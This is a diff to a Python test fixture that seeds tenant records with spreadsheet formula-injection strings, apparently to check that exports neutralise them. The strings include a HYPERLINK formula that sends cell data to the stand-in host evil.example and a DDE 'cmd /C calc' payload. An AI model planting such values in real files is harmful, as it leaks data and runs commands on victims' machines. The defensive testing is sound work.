@@ -45,6 +45,15 @@ from tests.factories import (
 CAMPAIGN_DAY = datetime.datetime(2026, 11, 27, 10, 30, tzinfo=datetime.UTC)
 OWNERS = "_owners"
 HOSTILE_TENANT = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+# A name starting with each character a spreadsheet reads as the start of a formula.
+HOSTILE_NAMES = [
+    HOSTILE_TENANT,
+    "+SUM(1;2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "\tTAB",
+    "\rCR",
+]
 
 
 @dataclass
@@ -167,6 +176,8 @@ def build_world() -> World:
     portfolio, declared = _portfolio_with_every_status(
         landlord.landlord, name="Mes logements", tenant_name=HOSTILE_TENANT
     )
+    for name in HOSTILE_NAMES[1:]:
+        TenancyFactory(portfolio=portfolio, tenant_name=name)
     submission = _declare(declared, user=landlord)
     bulk = _bulk_import(portfolio, user=landlord, number="=HYPERLINK(1)")
     now = clock.now()
@@ -272,4 +283,4 @@ def build_world() -> World:
     ids.append({"receipt_id": receipt.pk, OWNERS: staff})
     ids.append({"message_id": failed.pk, OWNERS: staff + ("landlord",)})
     ids += [{"message_id": message.pk, OWNERS: ("landlord",)} for message in sent]
-    return World(roles=roles, ids=ids, tenant_names=[HOSTILE_TENANT])
+    return World(roles=roles, ids=ids, tenant_names=HOSTILE_NAMES)
